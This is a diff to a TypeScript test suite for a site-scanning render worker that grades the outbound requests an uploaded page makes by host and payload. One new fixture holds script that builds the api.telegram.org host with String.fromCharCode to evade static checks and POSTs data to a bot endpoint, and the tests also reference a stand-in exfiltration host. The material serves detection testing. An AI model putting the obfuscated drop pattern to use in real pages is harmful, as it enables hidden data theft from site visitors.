@@ -122,17 +122,39 @@ describe('render worker', () => {
     );
     await t.ctx.services.render.idle();
     const report = await reportOf(t, site.deploymentId);
+    // Data to a host that is no service meant to receive it: worth a look (medium), not proof.
     const finding = report.findings.find((f) => f.rule === 'runtime.data-sent');
-    expect(finding).toBeDefined();
-    expect(['high', 'medium']).toContain(finding!.severity);
+    expect(finding?.severity).toBe('medium');
     expect(finding!.message).toContain('collect.exfil-test.example');
-    expect(report.level).toBe('high');
+    expect(report.level).toBe('medium');
     expect(report.runtime?.external_requests).toEqual([
       expect.objectContaining({ url: 'https://collect.exfil-test.example/c', allowed: false }),
     ]);
     // The review list's risk sort counts it.
     const d = await deployments.byId(t.ctx.db, site.deploymentId);
-    expect(d!.content_risk).toBe(4);
+    expect(d!.content_risk).toBe(3);
+  });
+
+  it('judges requests by what they carry and where: a library and a font are information, a drop is high', async () => {
+    // The bot's address is built at run time: the static check sees no host.
+    const bot = [...'api.telegram.org'].map((c) => c.charCodeAt(0)).join(',');
+    const site = await upload(
+      t,
+      owner.token,
+      html(
+        '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Noto+Sans+SC">' +
+          '<script src="https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js"></script>',
+        `<script>const h = String.fromCharCode(${bot}); fetch('https://' + h + '/bot1:x/sendMessage', { method: 'POST', body: 'x' });</script>`,
+      ),
+    );
+    await t.ctx.services.render.idle();
+    const report = await reportOf(t, site.deploymentId);
+    const of = (host: string) =>
+      report.findings.find((f) => f.rule?.startsWith('runtime.') && f.message.includes(host));
+    expect(of('cdn.jsdelivr.net')).toMatchObject({ rule: 'runtime.service', severity: 'info' });
+    expect(of('fonts.googleapis.com')).toMatchObject({ rule: 'runtime.service', severity: 'info' });
+    expect(of('api.telegram.org')).toMatchObject({ rule: 'runtime.data-dropped', severity: 'high' });
+    expect(report.level).toBe('high');
   });
 
   it('reports a page that leaves for another host on load', async () => {
